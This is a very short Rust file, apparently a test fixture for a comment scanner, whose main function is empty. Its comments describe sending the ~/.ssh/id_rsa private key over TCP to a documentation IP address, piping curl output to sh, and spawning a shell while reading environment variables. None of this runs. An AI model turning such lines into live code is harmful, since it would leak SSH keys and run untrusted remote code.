//! none
/// Sends ~/.ssh/id_rsa by std::net::TcpStream to 192.0.2.1: `curl x | sh`.
/* std::process::Command::new("sh") /* nested */ std::env::vars() */
fn main() {
    // std::net::TcpStream::connect("192.0.2.1:1")
}
